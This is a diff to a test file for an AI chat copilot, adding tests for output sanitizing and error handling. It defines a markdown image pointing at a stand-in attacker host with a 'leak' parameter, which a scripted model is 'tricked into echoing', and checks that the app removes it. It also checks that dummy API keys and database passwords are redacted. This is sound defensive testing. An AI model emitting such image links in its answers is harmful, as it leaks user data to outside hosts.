@@ -11,7 +11,7 @@ from copilot_core.chat import ChatMessage, ChatState
 from copilot_core.data.chat_sessions import COLLECTION
 from copilot_core.domain.topology import qubit_label
 from copilot_core.tools import DataStore, Toolkit
-from tests.fakes.scripted_openai import SmartRequest, answer, call
+from tests.fakes.scripted_openai import SmartRequest, answer, call, error
 from ui.state import CHIP_KEY, FOCUS_QUBIT_KEY
 
 CHIP = "64Qv3"
@@ -261,9 +261,11 @@ def test_each_browser_session_has_its_own_data_and_chats(chat_app):
     assert any("No saved chats yet" in c.value for c in bob_at.sidebar.caption)
 
 
+HOSTILE_PRINT = "![pixel](https://evil.example/p.png?leak=1)"
 ANALYSIS_CODE = ("import plotly.express as px\n"
                  "t1 = data['t1']\n"
                  "print('median', round(float(t1['value'].median()), 4))\n"
+                 f"print({HOSTILE_PRINT!r})\n"
                  "result = {'output': 'rows ' + str(len(t1)), 'chart': px.histogram(t1, x='value')}")
 
 
@@ -273,7 +275,8 @@ def analysis_smart(req: SmartRequest):
         return call("get_chip_parameter_timeseries", {"parameter_name": "t1", "chip_id": CHIP})
     if len(req.tool_results) == 1:
         return call("execute_python_analysis", {"code": ANALYSIS_CODE})
-    return answer("Analysis done: " + json.loads(req.tool_results[-1].output)["output"][:200])
+    output = json.loads(req.tool_results[-1].output)["output"]
+    return answer(f"Analysis done: {output[:100]}\n\n{HOSTILE_PRINT}")  # a model tricked into echoing an image
 
 
 def test_show_work_rerun_and_csv_export(chat_app):
@@ -293,6 +296,10 @@ def test_show_work_rerun_and_csv_export(chat_app):
     assert ANALYSIS_CODE in [c.value for c in work.code]  # code shown as code, output as text
     assert any(f"median {median}" in c.value for c in work.code)
     assert "Data keys used: t1" in shown
+    # Printed text is shown as code; an image echoed into the answer's markdown is defanged.
+    assert any(HOSTILE_PRINT in c.value for c in work.code)
+    assert not any("evil.example" in m.value for m in at.markdown)
+    assert any("[image removed: pixel]" in m.value for m in assistant.markdown)
     assert len(plotly_specs(at)) == 1  # the sandbox's histogram, validated and drawn natively
 
     rerun = [b for b in work.button if b.label == "Re-run analysis code"][0]
@@ -306,3 +313,24 @@ def test_show_work_rerun_and_csv_export(chat_app):
 
     [download] = at.sidebar.get("download_button")
     assert f"t1 ({len(rows)} rows)" in download.proto.label
+
+
+def test_answers_pass_the_output_sanitizer(chat_app):
+    app = chat_app(lambda req: answer("The key is sk-proj-ABCDEFGHIJKLMNOP1234 and the DB is "
+                                      "mongodb://admin:hunter2@db.lab:27017/qdash"))
+    app.run()
+    at = app.ask("What is configured?")
+    shown = " ".join(m.value for m in at.chat_message[1].markdown)
+    assert "sk-proj-ABCDEFGHIJKLMNOP1234" not in shown and "hunter2" not in shown
+    assert "[redacted]" in shown
+
+
+def test_a_failing_provider_gives_a_clear_message_not_a_traceback(chat_app):
+    app = chat_app(lambda req: error(500, "model exploded"))
+    app.run()
+    at = app.ask("Anything?")
+    assert not at.exception
+    [status] = at.status
+    assert status.state == "error" and status.label.startswith("Stopped with a problem")
+    shown = " ".join(m.value for m in at.chat_message[1].markdown)
+    assert "HTTP 500" in shown and "Traceback" not in shown
